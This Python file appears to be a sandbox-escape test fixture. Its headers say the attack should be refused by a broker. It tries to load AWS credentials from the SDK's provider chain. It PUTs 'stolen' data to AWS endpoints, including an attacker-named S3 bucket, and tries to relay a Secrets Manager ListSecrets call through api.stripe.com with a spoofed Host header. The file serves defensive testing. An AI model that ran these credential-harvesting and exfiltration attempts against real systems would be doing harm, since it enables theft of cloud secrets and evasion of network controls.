# attack: the AWS SDK looks for credentials in eight places by itself; with any it would call STS, S3 and Secrets Manager
# expect: broker
# validator: refused
import sys

import requests

try:
    import botocore.session

    session = botocore.session.Session()
    for provider in session.get_component("credential_provider").providers:
        # The two that ask a metadata service have files of their own, which ask it nothing.
        if provider.METHOD in {"iam-role", "container-role"}:
            continue
        try:
            if provider.load():
                print("ESCAPED: credentials from", provider.METHOD, flush=True)
        except Exception as error:
            print(provider.METHOD, type(error).__name__, error)
except Exception as error:
    print("botocore:", type(error).__name__, error)

ENDPOINTS = (
    "https://sts.amazonaws.com/?Action=GetCallerIdentity&Version=2011-06-15",
    "https://secretsmanager.us-east-1.amazonaws.com/",
    "https://s3.amazonaws.com/a-bucket-of-the-attacker/stolen",
    "https://lambda.us-east-1.amazonaws.com/2015-03-31/functions/",
    "http://127.0.0.1:@TCP_PORT@/?Action=GetCallerIdentity",
)
for url in ENDPOINTS:
    try:
        answer = requests.put(url, data="stolen", timeout=0.3)
        print("ESCAPED:", url, answer.status_code, flush=True)
    except requests.RequestException as error:
        print(url, type(error).__name__)

# The same through the relay: signed headers and targets that AWS understands, on a connection to the API's host.
try:
    answer = requests.post(
        "https://api.stripe.com/",
        headers={"Host": "secretsmanager.us-east-1.amazonaws.com", "X-Amz-Target": "secretsmanager.ListSecrets"},
        timeout=1,
    )
    if answer.ok:
        print("ESCAPED: the relay carried a call to AWS", flush=True)
    print(answer.status_code, answer.text[:100], file=sys.stdout)
except requests.RequestException as error:
    print(type(error).__name__)
